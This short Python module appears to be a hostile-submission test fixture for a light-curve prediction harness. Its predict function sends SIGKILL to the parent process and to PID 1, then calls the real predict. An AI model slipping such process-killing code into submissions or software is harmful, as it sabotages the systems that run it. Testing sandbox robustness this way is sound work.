"""Kills whatever it may."""

import contextlib
import os
import signal

from base import load
from base import predict as good

__all__ = ["load", "predict"]


def predict(model, lightcurves):
    for number in (os.getppid(), 1):
        with contextlib.suppress(OSError):
            os.kill(number, signal.SIGKILL)
    return good(model, lightcurves)
